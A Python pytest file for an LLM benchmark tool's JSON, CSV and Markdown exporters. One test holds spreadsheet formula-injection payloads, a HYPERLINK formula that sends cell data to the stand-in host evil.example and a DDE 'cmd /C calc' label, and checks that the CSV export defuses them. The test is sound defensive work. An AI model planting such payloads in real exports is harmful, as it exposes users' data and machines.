"""Exports: JSON and CSV field by field (llama-bench names), Markdown side by side."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from result_samples import HOST, make_result, model_info, stats

from profiles.csv_export import to_csv, write_csv
from profiles.export_fields import human_params, result_to_record
from profiles.json_export import to_json, write_json
from profiles.markdown_export import to_markdown, write_markdown

LLAMA_BENCH_NAMES = [
    "model_filename",
    "model_type",
    "model_size",
    "model_n_params",
    "n_threads",
    "n_gpu_layers",
    "n_prompt",
    "n_gen",
]


@pytest.fixture
def pair() -> list:
    small = make_result(label="small", text="Short answer.")
    large = make_result(
        label="large",
        text="Longer | answer with ``` fences\nand two lines.",
        temperature=1.2,
        info=model_info(
            "gemma-3-270m-Q4_K_M.gguf",
            architecture="gemma3",
            n_params=268_098_176,
            quantization="Q4_K_M",
            file_size=253_000_000,
            n_threads=1,
            n_gpu_layers_requested=-1,
            n_gpu_layers_offloaded=19,
            backend="CUDA",
            has_chat_template=False,
        ),
        run_stats=stats(
            prompt_mode="completion",
            decode_tps=None,
            energy_j=12.0,
            gpu_mem_mib=512.0,
            stop_reason="stop",
            generated_tokens=24,
        ),
    )
    return [small, large]


def test_record_uses_llama_bench_names_with_the_right_values(pair: list) -> None:
    record = result_to_record(pair[1])
    for name in LLAMA_BENCH_NAMES:
        assert name in record
    assert record["model_filename"] == "gemma-3-270m-Q4_K_M.gguf"
    assert record["model_type"] == "gemma3 268M Q4_K_M"
    assert record["model_size"] == 253_000_000
    assert record["model_n_params"] == 268_098_176
    assert record["n_threads"] == 1
    assert record["n_gpu_layers"] == -1
    assert record["n_gpu_layers_offloaded"] == 19
    assert record["n_prompt"] == 31
    assert record["n_gen"] == 24
    assert record["n_batch"] == 256
    assert record["backends"] == "CUDA"
    assert record["cpu_info"] == HOST["cpu_model"]
    assert record["gpu_info"] == "NVIDIA H100"
    assert record["test_time"] == pair[1].created_at


def test_record_carries_figures_sampling_and_text(pair: list) -> None:
    record = result_to_record(pair[1])
    assert record["ttft_s"] == 0.125
    assert record["prompt_tps"] == 812.5
    assert record["decode_tps"] is None
    assert record["engine_decode_tps"] == 215.0
    assert record["load_s"] == 0.42
    assert record["peak_rss_mib"] == 180.0
    assert record["gpu_mem_mib"] == 512.0
    assert record["energy_j"] == 12.0
    assert record["energy_per_token_j"] == pytest.approx(0.5)
    assert record["stop_reason"] == "stop"
    assert record["temperature"] == 1.2
    assert record["seed"] == 7
    assert record["stop"] == ["\n\n"]
    assert record["sampling_changes"][0]["at_token"] == 10
    assert record["text"] == pair[1].text
    assert record["prompt"] == "The three most important things"
    assert record["system_prompt"] == "Be brief."
    assert record["mode"] == "parallel"
    assert record["model_sha256"] == "ab" * 32
    assert record["llama_cpp_python_version"] == "0.3.36"
    assert record["prompt_mode"] == "completion"


def test_json_document_shape_and_every_field(pair: list, tmp_path: Path) -> None:
    path = tmp_path / "out" / "results.json"
    write_json(pair, path, mode="parallel")
    document = json.loads(path.read_text(encoding="utf-8"))
    assert set(document) == {"llmbench_export_version", "host", "mode", "results"}
    assert document["host"] == HOST
    assert document["mode"] == "parallel"
    assert document["results"] == [json.loads(json.dumps(result_to_record(r))) for r in pair]


def test_json_mode_defaults_to_the_results_mode() -> None:
    results = [make_result(mode="sequential"), make_result(mode="sequential")]
    assert json.loads(to_json(results))["mode"] == "sequential"
    assert (
        json.loads(to_json([make_result(mode="sequential"), make_result(mode="parallel")]))["mode"]
        == "mixed"
    )


def test_csv_has_the_same_fields_row_by_row(pair: list, tmp_path: Path) -> None:
    path = tmp_path / "results.csv"
    write_csv(pair, path)
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 2
    for row, result in zip(rows, pair, strict=True):
        record = result_to_record(result)
        assert list(row) == list(record)
        for key, value in record.items():
            if value is None:
                assert row[key] == "", key
            elif isinstance(value, list):
                assert json.loads(row[key]) == value, key
            elif isinstance(value, bool):
                assert row[key] == str(value), key
            elif isinstance(value, int | float):
                assert float(row[key]) == pytest.approx(value), key
            else:
                assert row[key] == value, key


def test_csv_of_nothing_still_has_a_header() -> None:
    header = next(csv.reader(io.StringIO(to_csv([]))))
    assert header == list(result_to_record(make_result()))


def test_markdown_puts_panes_side_by_side_then_each_answer(pair: list, tmp_path: Path) -> None:
    path = tmp_path / "results.md"
    write_markdown(pair, path)
    text = path.read_text(encoding="utf-8")
    lines = text.splitlines()
    assert lines[0] == "# Comparison: small-vs-large"
    header = next(line for line in lines if line.startswith("|  |"))
    assert header == "|  | small | large |"
    decode = next(line for line in lines if line.startswith("| decode speed (tok/s)"))
    assert decode == "| decode speed (tok/s) | 201.2 | — |"
    gpu_layers = next(line for line in lines if line.startswith("| GPU layers"))
    assert gpu_layers.endswith("| 0 / 0 | -1 / 19 |")
    assert "| temperature | 0.7 | 1.2 |" in lines
    assert "| stop reason | length | stop |" in lines
    assert text.index("## small") < text.index("Short answer.") < text.index("## large")
    assert "speeds are not a fair comparison" in text
    assert "AMD EPYC 7B13; NVIDIA H100" in text


def test_markdown_keeps_an_answer_with_fences_intact(pair: list) -> None:
    text = to_markdown(pair)
    assert "````text\nLonger | answer with ``` fences\nand two lines.\n````" in text


def test_markdown_with_no_results_says_so() -> None:
    assert "No results." in to_markdown([])


@pytest.mark.parametrize(
    ("n_params", "expected"),
    [
        (None, ""),
        (134_515_008, "135M"),
        (1_235_814_400, "1.2B"),
        (7_241_732_096, "7.2B"),
        (999, "999"),
    ],
)
def test_human_params(n_params: int | None, expected: str) -> None:
    assert human_params(n_params) == expected


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_neutralises_text_a_spreadsheet_would_run_as_a_formula(start: str) -> None:
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    result = make_result(text=formula, label=f"{start}cmd|' /C calc'!A0")
    result = result.model_copy(update={"prompt": f"{start}1+1"})
    row = next(csv.DictReader(io.StringIO(to_csv([result]))))
    assert row["text"] == "'" + formula
    assert row["prompt"] == f"'{start}1+1"
    assert row["pane_label"].startswith("'")
    assert float(row["temperature"]) == result.sampling.temperature  # numbers stay numbers
    assert json.loads(to_json([result]))["results"][0]["text"] == formula  # JSON keeps it as is


def test_csv_keeps_negative_numbers_as_numbers() -> None:
    result = make_result(run_stats=stats(mean_logprob=-0.75))
    row = next(csv.DictReader(io.StringIO(to_csv([result]))))
    assert row["mean_logprob"] == "-0.75"


def _markdown_row(markdown: str, name: str) -> list[str]:
    line = next(line for line in markdown.splitlines() if line.startswith(f"| {name} |"))
    return [cell.strip() for cell in line.strip("|").split("|")][1:]


def test_markdown_stars_finished_runs_only_ties_together_and_marks_cached_figures() -> None:
    fast = make_result(
        label="fast", mode="sequential", run_stats=stats(decode_tps=300.0, cached_prompt_tokens=0)
    )
    tie = make_result(
        label="tie", mode="sequential", run_stats=stats(decode_tps=300.04, cached_prompt_tokens=0)
    )
    stopped = make_result(
        label="stopped", mode="sequential",
        run_stats=stats(decode_tps=900.0, stop_reason="cancelled", cached_prompt_tokens=0),
    )  # fmt: skip
    cached = make_result(
        label="cached", mode="sequential",
        run_stats=stats(decode_tps=100.0, prompt_tps=9999.0, ttft_s=0.001, cached_prompt_tokens=30),
    )  # fmt: skip
    markdown = to_markdown([fast, tie, stopped, cached])
    assert _markdown_row(markdown, "decode speed (tok/s)") == [
        "★ 300.0",
        "★ 300.0",
        "900.0",
        "100.0",
    ]
    prompt = _markdown_row(markdown, "prompt speed (tok/s)")
    assert prompt[3] == "↺ 9999.0" and prompt[0] == "★ 812.5"
    assert _markdown_row(markdown, "TTFT (s)")[3] == "↺ 0.001"
    assert "↺: prompt served from the cache" in markdown


def test_markdown_of_a_parallel_run_stars_no_speed() -> None:
    a = make_result(
        label="a", mode="parallel", run_stats=stats(decode_tps=300.0, peak_rss_mib=100.0)
    )
    b = make_result(
        label="b", mode="parallel", run_stats=stats(decode_tps=200.0, peak_rss_mib=200.0)
    )
    markdown = to_markdown([a, b])
    assert "★" not in "".join(_markdown_row(markdown, "decode speed (tok/s)"))
    assert _markdown_row(markdown, "peak RSS (MiB)") == ["★ 100", "200"]
